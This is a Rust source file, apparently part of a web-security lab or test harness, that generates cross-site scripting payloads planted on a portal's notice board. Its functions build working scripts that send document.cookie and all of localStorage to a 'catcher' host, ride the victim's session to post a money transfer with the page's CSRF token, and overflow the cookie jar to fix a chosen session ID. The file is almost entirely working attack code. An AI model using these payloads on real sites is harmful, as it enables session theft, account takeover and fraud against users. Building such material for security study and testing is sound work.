//! The scripts that the attacker plants on the portal's notice board. The attacker's pages show them
//! as text, and the attacks post them: one source for both.

/// Loads an image whose address carries `document.cookie` to the catcher.
pub fn steal_cookie(catcher: &str) -> String {
    format!("<script>new Image().src={}</script>", report(catcher))
}

/// The same without a script tag: a broken image runs its error handler.
pub fn steal_cookie_by_handler(catcher: &str) -> String {
    let report = report(catcher);
    format!("<img src=\"data:,\" onerror=\"this.onerror=null;this.src={report}\">")
}

fn report(catcher: &str) -> String {
    format!("'{catcher}?cookie='+encodeURIComponent(document.cookie)")
}

/// Loads an image whose address carries everything in `localStorage` to the catcher.
pub fn steal_storage(catcher: &str) -> String {
    format!(
        "<script>new Image().src='{catcher}?storage='+encodeURIComponent(JSON.stringify(localStorage))\
         </script>"
    )
}

/// Posts the transfer form from the victim's own page, with the token in that page.
pub fn ride_session() -> String {
    "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
     t=document.querySelector('[name=csrf_token]');\
     if(t)f.set('csrf_token',t.value);\
     fetch('transfer',{method:'POST',body:f})</script>"
        .to_owned()
}

/// Fills the jar until the browser deletes the session cookie, sets it again with this id, and removes
/// the filling.
///
/// `Secure` is written wherever the page may do so: cookies without it are deleted first, so they
/// would never displace one that has it. Chromium writes cookies behind the script's back; reading
/// waits for them.
pub fn overflow(name: &str, id: &str) -> String {
    format!(
        "<script>d=document;d.documentElement.dataset.done=0;s=isSecureContext?';secure':'';\
         w=(v)=>{{for(i=0;i<3000;i++){{d.cookie='o'+i+v+';path=/'+s;if(i%99==0)d.cookie}}}};\
         setTimeout(()=>{{w('=1');d.cookie='{name}={id};path=/'+s;w('=;max-age=0');d.cookie;\
         d.documentElement.dataset.done=1}})</script>"
    )
}
